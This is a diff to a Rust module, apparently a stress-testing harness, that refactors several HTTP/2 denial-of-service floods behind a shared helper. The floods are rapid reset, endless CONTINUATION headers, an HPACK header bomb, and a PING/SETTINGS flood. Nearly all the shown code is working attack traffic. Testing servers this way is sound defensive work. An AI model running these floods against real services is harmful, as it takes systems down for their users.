@@ -26,47 +26,47 @@ const MESSAGE_FRAMES: usize = 320;
 /// What it announces: 2 GiB.
 const ANNOUNCED: &[u8] = b"\0\x80\0\0\0";
 
+/// Does this on all connections of a flood, and again when one was cut off.
+async fn flood(attacker: &Attacker, what: impl AsyncFn(Wire) -> Result<(), Failure>) {
+    let one = || attacker.again(|| async { what(Wire::open(attacker.addr).await?).await });
+    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
+}
+
 /// 8,000 calls a second that are given up at once.
 pub async fn rapid_reset(attacker: &Attacker) {
     let head = call(LIST, &attacker.token);
-    let one = || {
-        attacker.again(|| async {
-            let mut wire = Wire::open(attacker.addr).await?;
-            let mut portions = portions();
-            loop {
-                portions.tick().await;
-                let mut bytes = Vec::new();
-                for _ in 0..RESETS {
-                    let stream = wire.stream();
-                    bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
-                    bytes.extend(frame(RST_STREAM, 0, stream, &CANCELLED));
-                }
-                wire.send(&bytes).await?;
-                attacker.did(RESETS as u64);
+    flood(attacker, async |mut wire| {
+        let mut portions = portions();
+        loop {
+            portions.tick().await;
+            let mut bytes = Vec::new();
+            for _ in 0..RESETS {
+                let stream = wire.stream();
+                bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
+                bytes.extend(frame(RST_STREAM, 0, stream, &CANCELLED));
             }
-        })
-    };
-    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
+            wire.send(&bytes).await?;
+            attacker.did(RESETS as u64);
+        }
+    })
+    .await;
 }
 
 /// 13 MB a second of headers without an end.
 pub async fn headers(attacker: &Attacker) {
     let filler = field(0x00, "x-filler", &"x".repeat(FRAME_BYTES_MAX - 32));
-    let one = || {
-        attacker.again(|| async {
-            let mut wire = Wire::open(attacker.addr).await?;
-            let stream = wire.stream();
-            wire.send(&frame(HEADERS, 0, stream, &call(LIST, &attacker.token))).await?;
-            let mut portions = portions();
-            loop {
-                portions.tick().await;
-                let more = frame(CONTINUATION, 0, stream, &filler).repeat(HEADER_FRAMES);
-                wire.send(&more).await?;
-                attacker.did(HEADER_FRAMES as u64);
-            }
-        })
-    };
-    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
+    flood(attacker, async |mut wire| {
+        let stream = wire.stream();
+        wire.send(&frame(HEADERS, 0, stream, &call(LIST, &attacker.token))).await?;
+        let mut portions = portions();
+        loop {
+            portions.tick().await;
+            let more = frame(CONTINUATION, 0, stream, &filler).repeat(HEADER_FRAMES);
+            wire.send(&more).await?;
+            attacker.did(HEADER_FRAMES as u64);
+        }
+    })
+    .await;
 }
 
 /// 400 heads a second of 12 KB each, which say 47 MB.
@@ -78,45 +78,39 @@ pub async fn header_bomb(attacker: &Attacker) {
     ]
     .concat();
     let later = [call(LIST, &attacker.token), vec![NEWEST; BOMB_TIMES]].concat();
-    let one = || {
-        attacker.again(|| async {
-            let mut wire = Wire::open(attacker.addr).await?;
-            let mut portions = portions();
-            let mut head = &first;
-            loop {
-                portions.tick().await;
-                let stream = wire.stream();
-                let (begin, rest) = head.split_at(head.len().min(FRAME_BYTES_MAX));
-                let begin_flags = if rest.is_empty() { END_HEADERS } else { 0 } | END_STREAM;
-                let mut bytes = frame(HEADERS, begin_flags, stream, begin);
-                if !rest.is_empty() {
-                    bytes.extend(frame(CONTINUATION, END_HEADERS, stream, rest));
-                }
-                wire.send(&bytes).await?;
-                attacker.did(1);
-                head = &later;
+    flood(attacker, async |mut wire| {
+        let mut portions = portions();
+        let mut head = &first;
+        loop {
+            portions.tick().await;
+            let stream = wire.stream();
+            let (begin, rest) = head.split_at(head.len().min(FRAME_BYTES_MAX));
+            let begin_flags = if rest.is_empty() { END_HEADERS } else { 0 } | END_STREAM;
+            let mut bytes = frame(HEADERS, begin_flags, stream, begin);
+            if !rest.is_empty() {
+                bytes.extend(frame(CONTINUATION, END_HEADERS, stream, rest));
             }
-        })
-    };
-    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
+            wire.send(&bytes).await?;
+            attacker.did(1);
+            head = &later;
+        }
+    })
+    .await;
 }
 
 /// 20,000 pings and as many settings a second.
 pub async fn control(attacker: &Attacker) {
     let both = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat();
     let portion = both.repeat(CONTROLS);
-    let one = || {
-        attacker.again(|| async {
-            let mut wire = Wire::open(attacker.addr).await?;
-            let mut portions = portions();
-            loop {
-                portions.tick().await;
-                wire.send(&portion).await?;
-                attacker.did(2 * CONTROLS as u64);
-            }
-        })
-    };
-    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
+    flood(attacker, async |mut wire| {
+        let mut portions = portions();
+        loop {
+            portions.tick().await;
+            wire.send(&portion).await?;
+            attacker.did(2 * CONTROLS as u64);
+        }
+    })
+    .await;
 }
 
 /// Frames of 1 MB, which end a connection, and on others messages of 5 MB that announce 2 GiB, which end a call.
